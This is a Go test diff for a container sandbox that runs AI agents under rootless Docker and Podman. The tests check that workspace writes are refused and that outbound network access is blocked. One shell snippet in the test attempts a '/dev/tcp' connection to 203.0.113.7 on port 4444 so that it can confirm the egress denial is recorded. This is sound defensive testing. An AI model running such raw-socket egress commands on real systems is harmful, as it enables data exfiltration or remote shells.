@@ -1,31 +1,41 @@
 package sandbox
 
 import (
+	"errors"
 	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
+	"syscall"
 	"testing"
 
+	"github.com/org/claude-sandbox/internal/diag"
+	"github.com/org/claude-sandbox/internal/engine"
 	"github.com/org/claude-sandbox/internal/test/testenv"
+	"github.com/org/claude-sandbox/workspace"
 )
 
-// rootlessUser is the user, and his group, whose engines these tests start; rootlessIDs is
-// the first of the 65536 further numbers that his containers have.
+// The users, and their groups, whose engines these tests start. The number of the second
+// one is of a kind that directories of companies give out: above those that containers have
+// by themselves, and above rootlessIDs.
 const (
-	rootlessUser = 12345
-	rootlessIDs  = 2000000
+	rootlessUser    = 12345
+	rootlessFarUser = 1000001
+
+	rootlessIDs = 300000 // the first of the 65536 further numbers that the containers have
 )
 
-// asRootlessUser runs a test of this program as that user, in namespaces in which he
-// exists: nothing of this machine knows him before or after. dir is a folder of his own.
-func asRootlessUser(t *testing.T, test string, dir string) {
+// asRootlessUser runs a test of this program as one of these users, in namespaces in which he
+// exists: nothing of this machine knows him before or after.
+func asRootlessUser(t *testing.T, uid int, test string) {
 	t.Helper()
 	testenv.Root(t)
 	for _, program := range []string{"newuidmap", "slirp4netns"} {
 		testenv.Program(t, program)
 	}
+	dir := folderForAll(t)
 	own, err := os.Executable()
 	if err != nil {
 		t.Fatal(err)
@@ -44,13 +54,14 @@ done
 mknod -m 666 tun c 10 200
 mount --bind tun /dev/net/tun
 ip link set lo up
+mount --make-rshared /
 mkdir home runtime
 chown %[2]d:%[2]d . home runtime
 chmod 700 runtime
 export HOME=$PWD/home XDG_RUNTIME_DIR=$PWD/runtime TMPDIR=$PWD/home USER=rootless PATH=$PATH:/usr/sbin:/sbin
 unset DOCKER_HOST XDG_CONFIG_HOME XDG_STATE_HOME XDG_CACHE_HOME XDG_DATA_HOME
 exec setpriv --reuid %[2]d --regid %[2]d --clear-groups ./test -test.run="^%[5]s$" -test.v
-`, own, rootlessUser, rootlessIDs, dir, test)
+`, own, uid, rootlessIDs, dir, test)
 	cmd := exec.Command("unshare", "--net", "--mount", "--mount-proc", "--pid", "--fork", "--kill-child", "bash", "-c", script)
 	cmd.Dir, cmd.Env = dir, append(os.Environ(), rootlessFolder+"="+dir)
 	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "--- PASS: "+test) {
@@ -69,13 +80,19 @@ func TestUserOfRootlessPodman(t *testing.T) {
 		return
 	}
 	e := servePodman(t, dir)
-	mainJob(t, e, rootlessUser)
+	mainJob(t, e, rootlessFarUser)
 	commitJob(t, e)
 }
 
 // The main job on a Podman of an ordinary user: as on root's, and what the agent writes is
 // that user's, although the agent is not root anywhere.
 func TestRunOnRootlessPodman(t *testing.T) {
+	asRootlessUser(t, rootlessFarUser, "TestUserOfRootlessPodman")
+}
+
+// folderForAll is a new folder that every user can get to.
+func folderForAll(t *testing.T) string {
+	t.Helper()
 	dir := t.TempDir()
 	for at := dir; at != "/"; at = filepath.Dir(at) { // he must get to it
 		if info, err := os.Stat(at); err == nil && info.Mode()&0o001 == 0 {
@@ -84,5 +101,93 @@ func TestRunOnRootlessPodman(t *testing.T) {
 			}
 		}
 	}
-	asRootlessUser(t, "TestUserOfRootlessPodman", dir)
+	return dir
+}
+
+// serveRootlessDocker starts a Docker of this user that keeps everything in dir and has
+// podmanImage.
+func serveRootlessDocker(t *testing.T, dir string) *engine.Engine {
+	t.Helper()
+	testenv.Program(t, "dockerd")
+	state := os.Getenv("XDG_RUNTIME_DIR")
+	address := "unix://" + state + "/docker.sock"
+	said, err := os.Create(filepath.Join(dir, "dockerd.log"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer said.Close()
+	// The options of Docker's own dockerd-rootless.sh, and the links of --copy-up that it removes.
+	daemon := exec.Command(testenv.Program(t, "rootlesskit"), "--state-dir", state+"/rootlesskit", "--net", "slirp4netns", "--disable-host-loopback",
+		"--copy-up=/etc", "--copy-up=/run", "--propagation=rslave", "sh", "-c", `rm -f /run/docker /run/containerd /run/xtables.lock; exec dockerd "$@"`, "sh",
+		"--host", address, "--data-root", dir+"/home/data", "--exec-root", state+"/docker", "--pidfile", state+"/docker.pid", "--log-level", "warn")
+	daemon.Stdout, daemon.Stderr = said, said
+	if err := daemon.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = daemon.Process.Signal(syscall.SIGTERM)
+		_ = daemon.Wait()
+		if t.Failed() {
+			text, _ := os.ReadFile(said.Name())
+			t.Logf("%s", text)
+		}
+	})
+	t.Setenv("DOCKER_HOST", address)
+	e := awaitEngine(t)
+	load := exec.Command(testenv.Program(t, "docker"), "import", "-", podmanImage)
+	in, err := load.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	packed := make(chan error, 1)
+	go func() { packed <- errors.Join(packPrograms(in), in.Close()) }()
+	if out, err := load.CombinedOutput(); err != nil {
+		t.Fatalf("docker import: %v: %s", err, out)
+	}
+	if err := <-packed; err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+// TestUserOfRootlessDocker is the test that TestRunOnRootlessDocker runs as a user without
+// rights; on its own it does nothing.
+func TestUserOfRootlessDocker(t *testing.T) {
+	dir := os.Getenv(rootlessFolder)
+	if dir == "" {
+		return
+	}
+	e := serveRootlessDocker(t, dir)
+	for _, mode := range []workspace.Mode{workspace.Bind, workspace.Copy} {
+		tr := &trial{image: podmanImage, options: shell("echo began")}
+		tr.options.User.Workspace.Mode = string(mode)
+		tr.run(t, e)
+		if !errors.Is(tr.err, errOwners) || ExitCode(tr.err) != 69 || tr.stdout.String() != "" || !strings.Contains(diag.HintOf(tr.err), "--workspace ro") {
+			t.Errorf("%s: %v, %q", mode, tr.err, diag.HintOf(tr.err))
+		}
+	}
+	for _, mode := range []workspace.Mode{workspace.ReadOnly, workspace.None} {
+		tr := &trial{image: podmanImage, options: shell(`
+cat main.go
+(echo x >main.go) 2>/dev/null && echo WROTE
+(echo x >/dev/tcp/203.0.113.7/4444) 2>/dev/null && echo REACHED
+grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status; id -u`)}
+		tr.options.User.Workspace.Mode = string(mode)
+		tr.run(t, e)
+		out := tr.stdout.String()
+		if tr.err != nil || strings.Contains(out, "REACHED") || !strings.Contains(out, "CapEff:\t0000000000000000") || strings.HasSuffix(out, "\n0\n") ||
+			strings.Contains(out, "package main\n") != (mode == workspace.ReadOnly) || strings.Contains(out, "WROTE") != (mode == workspace.None) {
+			t.Errorf("%s: %v\n%s\n%s\n%q", mode, tr.err, out, tr.stderr.String(), tr.said)
+		}
+		if tr.result.Egress == nil || !slices.Contains(tr.result.Egress.DeniedHosts(), "203.0.113.7") {
+			t.Errorf("%s: the refusal is not recorded: %+v", mode, tr.result.Egress)
+		}
+	}
+}
+
+// On a Docker of an ordinary user, in whose containers his files are root's, an agent can
+// read and not write them: a run that would write is refused before it starts.
+func TestRunOnRootlessDocker(t *testing.T) {
+	testenv.Program(t, "rootlesskit")
+	asRootlessUser(t, rootlessUser, "TestUserOfRootlessDocker")
 }
